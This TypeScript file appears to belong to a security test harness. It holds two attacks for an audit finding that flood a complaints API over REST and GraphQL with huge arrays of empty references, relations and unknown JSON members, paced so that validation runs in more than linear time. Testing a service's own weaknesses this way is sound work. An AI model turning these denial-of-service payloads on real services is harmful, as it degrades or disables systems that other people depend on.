/** Finding 2: input whose validation takes more than linear time. */
import type { Attack } from '../attack.ts'
import { paced } from '../client.ts'
import { COMPLAINT, repeated, times } from '../payloads.ts'

const EMPTY = times(20_000, '')
const relations = () => Array.from({ length: 9_000 }, (_, index) => ({ complaintId: `${index}`, relation: 'FOLLOWS' }))

/** `{"a0":1,"a1":1,…}`: each member is unknown. */
const unknownMembers = (): string => `{${repeated(60_000, index => `"a${index}":1`, ',')}}`

export const emptyReferences = (): string => JSON.stringify({ brokerReference: EMPTY })

export const validationRest: Attack = {
  name: 'validation-rest',
  finding: 2,
  title: 'REST: 20,000 empty references to search for, 9,000 relations, 60,000 unknown members, 20,000 empty causes',
  async play ({ send, people: { attackerComplaint }, signal }) {
    const bodies: [method: 'POST' | 'PATCH', path: string, body: string][] = [
      ['POST', '/v1/complaints/query', emptyReferences()],
      ['PATCH', `/v1/complaints/${attackerComplaint}`, JSON.stringify({ relatedTo: relations() })],
      ['POST', '/v1/complaints', unknownMembers()],
      ['POST', '/v1/complaints', JSON.stringify({ ...COMPLAINT, causes: EMPTY })],
    ]
    await paced(20, 300, signal, index => {
      const [method, path, body] = bodies[index % bodies.length]!
      return send({ method, path, body, headers: { 'if-match': '"1"' } })
    })
  },
}

export const LIST = 'query ($filter: ComplaintFilter) { complaints(filter: $filter, first: 1) { edges { cursor } } }'
const UPDATE = 'mutation ($input: UpdateComplaintInput!) { updateComplaint(input: $input) { complaint { id } } }'

export const validationGraphql: Attack = {
  name: 'validation-graphql',
  finding: 2,
  title: 'GraphQL: a filter of 20,000 empty references; an update with 9,000 relations',
  async play ({ send, people: { attackerComplaint }, signal }) {
    const input = { complaintId: attackerComplaint, expectedVersion: 1, relatedTo: relations() }
    const bodies = [
      JSON.stringify({ query: LIST, variables: { filter: { brokerReference: EMPTY } } }),
      JSON.stringify({ query: UPDATE, variables: { input } }),
    ]
    await paced(16, 350, signal, index => send({ path: '/graphql', body: bodies[index % bodies.length]! }))
  },
}
